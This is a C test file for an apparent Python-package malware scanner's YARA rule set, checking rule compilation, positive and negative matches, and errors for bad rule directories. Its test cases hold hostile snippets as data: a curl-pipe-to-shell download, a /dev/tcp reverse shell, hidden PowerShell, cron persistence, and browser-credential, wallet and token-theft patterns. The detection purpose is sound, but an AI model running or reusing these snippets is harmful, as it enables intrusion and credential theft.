/* Tests for the `yara` feature set (issue 11 item 4): the shipped rules compile, one column per
 * rule; every rule matches its positive example and not its negative one (with the evidence
 * line); a rules directory given by --param replaces them; broken, empty and missing directories
 * and duplicate rule names are clean errors. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "core/analysis/analysis.h"
#include "core/analysis/evidence.h"
#include "featuresets/featureset.h"
#include "tests/fixture_pkg.h"
#include "tests/harness.h"

/* Each shipped rule: a member that must match (at `line`) and one that must not. */
static const struct {
	const char *rule;
	const char *pos;
	size_t line;
	const char *neg;
} cases[] = {
    {"py_exec_base64", "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n", 2,
     "import base64\ndata = base64.b64decode(s)\nmodel.eval()\n"},
    {"py_exec_marshal_zlib", "import marshal,zlib\nexec(marshal.loads(zlib.decompress(b)))\n", 2,
     "import zlib\nraw = zlib.decompress(payload)\n"},
    {"py_exec_hex_reversed_rot13", "exec(bytes.fromhex('7072696e74'))\n", 1,
     "b = bytes.fromhex('00ff')\nexec_time = 3\n"},
    {"py_dunder_import_decoder", "x = __import__('base64').b64decode(s)\n", 1,
     "mod = __import__(name)\n"},
    {"pyarmor_runtime", "from pytransform import pyarmor_runtime\npyarmor_runtime()\n", 1,
     "# protect your code with care\n"},
    {"setup_install_hook_runs_code",
     "class P(install):\n    def run(self):\n        os.system('id')\n", 1,
     "class B(build_ext):\n    def run(self):\n        os.system('make')\n"},
    {"powershell_hidden_encoded", "cmd = 'powershell -WindowStyle Hidden -Command iex x'\n", 1,
     "# run this in powershell: pip install x\n"},
    {"download_and_execute", "os.system('curl -fsSL http://x.example/i.sh | sh')\n", 1,
     "# curl -o out.json http://x.example/data\n"},
    {"reverse_shell", "os.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')\n", 1,
     "p = '/dev/null'\n"},
    {"windows_autostart", "k = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n", 1,
     "k = r'Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall'\n"},
    {"unix_autostart", "os.system('(crontab -l; echo \"@reboot /tmp/x\") | crontab -')\n", 1,
     "# see crontab(5) for the format\n"},
    {"anti_vm_sandbox", "bad = ['VBoxService', 'vmtoolsd', 'wireshark.exe']\n", 1,
     "# tested on VirtualBox\n"},
    {"discord_webhook", "u = 'https://discord.com/api/webhooks/1234567890/abc'\n", 1,
     "docs = 'https://discord.com/developers/docs'\n"},
    {"telegram_bot_token",
     "u = 'https://api.telegram.org/bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/send'\n", 1,
     "u = 'https://api.telegram.org/bot' + token\n"},
    {"browser_credential_store",
     "p = os.path.join(LOCAL, 'Google', 'Chrome', 'User Data')\nfiles = ['Login Data', "
     "'Local State']\n",
     0, "title = 'Local State management'\n"},
    {"discord_token_theft", "re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}', text)\n", 1,
     "re.findall(r'[\\w-]{8}', text)\n"},
    {"crypto_wallet_paths", "w = ['Exodus\\\\exodus.wallet', 'Electrum\\\\wallets']\n", 1,
     "# supports the Electrum protocol\n"},
    {"exfil_tunnel_paste_oast", "u = 'https://abcd.ngrok.io/x'\n", 1,
     "u = 'https://example.org/x'\n"},
    {"sysinfo_beacon",
     "import getpass, socket, requests\nrequests.get(u, params={'u': getpass.getuser(), 'h': "
     "socket.gethostname()})\n",
     0, "import getpass\nuser = getpass.getuser()\n"},
};
#define N_CASES (sizeof(cases) / sizeof(cases[0]))

static struct featureset *alloc_yara(const char *params, char *err, size_t n)
{
	const struct featureset_type *t = featureset_find("yara");
	return t ? featureset_alloc(t, params, err, n) : NULL;
}

static long column_of(const struct featureset *fs, const char *rule)
{
	for (size_t k = 0; k < fs->type->n_features; k++)
		if (!strcmp(fs->type->feature_names[k], rule))
			return (long)k;
	return -1;
}

/* Scan a package of `pairs` (sizes from strlen, unless `size_of` names a path: `size`);
 * values into out, evidence into ev. 0 or -1. */
static int scan(const struct featureset *fs, const char *const *pairs, const char *size_of,
                size_t size, double *out, struct evidence_list *ev)
{
	struct fx_pkg fx;
	struct analysis_ctx ctx;
	struct analysis *a;
	struct diag d;
	int rc;
	fx_init(&fx, pairs);
	for (size_t i = 0; size_of && i < fx.pkg.n_files; i++)
		if (!strcmp(fx.files[i].path, size_of))
			fx.files[i].size = size;
	fx_ctx(&ctx);
	a = fx_analyse(&fx, &ctx);
	if (!a)
		return -1;
	diag_init(&d);
	rc = fs->type->extract(fs->state, a, out, ev, &d);
	if (rc < 0)
		CHECK(0, "yara extract: %s", diag_message(&d));
	diag_release(&d);
	analysis_free(a);
	return rc;
}

static int ev_at(const struct evidence_list *ev, const char *rule, const char *file, size_t line)
{
	char r[128];
	snprintf(r, sizeof(r), "yara.%s", rule);
	for (size_t i = 0; i < ev->n; i++)
		if (ev->v[i].rule && !strcmp(ev->v[i].rule, r) && ev->v[i].file &&
		    !strcmp(ev->v[i].file, file) && (!line || ev->v[i].line == line))
			return 1;
	return 0;
}

static void test_shipped(void)
{
	char err[512];
	struct featureset *fs = alloc_yara(NULL, err, sizeof(err));
	double *out;
	if (!CHECK(fs, "the shipped rules compile (%s)", fs ? "" : err))
		return;
	INT_IS(fs->type->n_features, N_CASES + 2, "one column per shipped rule");
	out = calloc(fs->type->n_features, sizeof(double));
	for (size_t i = 0; out && i < N_CASES; i++) {
		long c = column_of(fs, cases[i].rule);
		struct evidence_list ev = {0};
		if (!CHECK(c >= 0, "%s has a column", cases[i].rule))
			continue;
		if (scan(fs, (const char *const[]){"setup.py", "", "pkg/m.py", cases[i].pos, NULL},
		         NULL, 0, out, &ev) == 0)
			CHECK(out[c] == 1 && ev_at(&ev, cases[i].rule, "pkg/m.py", cases[i].line),
			      "%s matches its example (line %zu)", cases[i].rule, cases[i].line);
		evidence_list_release(&ev);
		if (scan(fs, (const char *const[]){"setup.py", "", "pkg/m.py", cases[i].neg, NULL},
		         NULL, 0, out, &ev) == 0)
			CHECK(out[c] == 0, "%s does not match its negative example", cases[i].rule);
		evidence_list_release(&ev);
	}
	/* binaries: bytes with NULs, so sizes are given */
	{
		static unsigned char elf[80] = {0x7f, 'E', 'L', 'F', 2, 1, 1};
		static unsigned char pe[128] = {'M', 'Z'};
		struct evidence_list ev = {0};
		long ce = column_of(fs, "elf_binary"), cp = column_of(fs, "pe_binary");
		pe[0x3c] = 0x40;
		memcpy(pe + 0x40, "PE\0\0", 4);
		if (out && ce >= 0 &&
		    scan(fs,
		         (const char *const[]){"setup.py", "", "pkg/data.txt", (const char *)elf,
		                               NULL},
		         "pkg/data.txt", sizeof(elf), out, &ev) == 0)
			CHECK(out[ce] == 1 && ev_at(&ev, "elf_binary", "pkg/data.txt", 0),
			      "an ELF header in a text member");
		evidence_list_release(&ev);
		if (out && cp >= 0 &&
		    scan(fs,
		         (const char *const[]){"setup.py", "", "pkg/data.txt", (const char *)pe,
		                               NULL},
		         "pkg/data.txt", sizeof(pe), out, &ev) == 0)
			CHECK(out[cp] == 1 && out[ce] == 0, "a PE header (MZ ... PE\\0\\0)");
		evidence_list_release(&ev);
		if (out && cp >= 0 &&
		    scan(
		        fs,
		        (const char *const[]){"setup.py", "", "pkg/m.py", "MZ is a prefix\n", NULL},
		        NULL, 0, out, &ev) == 0)
			CHECK(out[cp] == 0 && out[ce] == 0, "text starting with MZ is not a PE");
		evidence_list_release(&ev);
	}
	free(out);
	featureset_free(fs);
}

static void write_file(const char *path, const char *text)
{
	FILE *f = fopen(path, "w");
	if (f) {
		fputs(text, f);
		fclose(f);
	}
}

static void test_user_rules(void)
{
	char tmpl[] = "/tmp/pyvet-yara-XXXXXX", p[1024], param[1200], err[512];
	char *dir = mkdtemp(tmpl);
	struct featureset *fs;
	if (!CHECK(dir, "temp dir"))
		return;
	snprintf(param, sizeof(param), "rules=%s", dir);
	fs = alloc_yara(param, err, sizeof(err));
	CHECK(!fs && strstr(err, "no rule files"), "an empty directory: %s", err);
	featureset_free(fs);

	snprintf(p, sizeof(p), "%s/a.yar", dir);
	write_file(p, "rule mine { strings: $a = \"zork\" condition: $a }\n"
	              "private rule helper { condition: true }\n");
	snprintf(p, sizeof(p), "%s/notes.txt", dir);
	write_file(p, "not a rule file");
	fs = alloc_yara(param, err, sizeof(err));
	if (CHECK(fs, "a user rules directory (%s)", fs ? "" : err)) {
		double out[4] = {0};
		struct evidence_list ev = {0};
		CHECK(fs->type->n_features == 1 && !strcmp(fs->type->feature_names[0], "mine"),
		      "its one public rule is the only column (the private rule has none)");
		if (scan(fs,
		         (const char *const[]){"setup.py", "", "pkg/m.py", "x = 1\ny = 'zork'\n",
		                               NULL},
		         NULL, 0, out, &ev) == 0)
			CHECK(out[0] == 1 && ev_at(&ev, "mine", "pkg/m.py", 2),
			      "it matches at line 2");
		evidence_list_release(&ev);
		featureset_free(fs);
	}
	snprintf(p, sizeof(p), "%s/b.yar", dir);
	write_file(p, "rule mine { condition: false }\n");
	fs = alloc_yara(param, err, sizeof(err));
	CHECK(!fs && strstr(err, "b.yar") && strstr(err, "mine"),
	      "a rule name used twice names the file: %s", err);
	featureset_free(fs);
	write_file(p, "rule broken {\n  strings: $a = \"x\"\n  condition: $b\n}\n");
	fs = alloc_yara(param, err, sizeof(err));
	CHECK(!fs && !strncmp(err, "yara: ", 6) && strstr(err, "b.yar:") && strstr(err, "$b"),
	      "a rule that does not compile names file and line: %s", err);
	featureset_free(fs);
	unlink(p);
	snprintf(p, sizeof(p), "%s/a.yar", dir);
	unlink(p);
	snprintf(p, sizeof(p), "%s/notes.txt", dir);
	unlink(p);
	rmdir(dir);
	fs = alloc_yara("rules=/nonexistent/rules", err, sizeof(err));
	CHECK(!fs && strstr(err, "not found"), "a missing directory: %s", err);
	featureset_free(fs);
}

int main(void)
{
	fx_load_shared();
	test_shipped();
	test_user_rules();
	fx_free_shared();
	return harness_done();
}
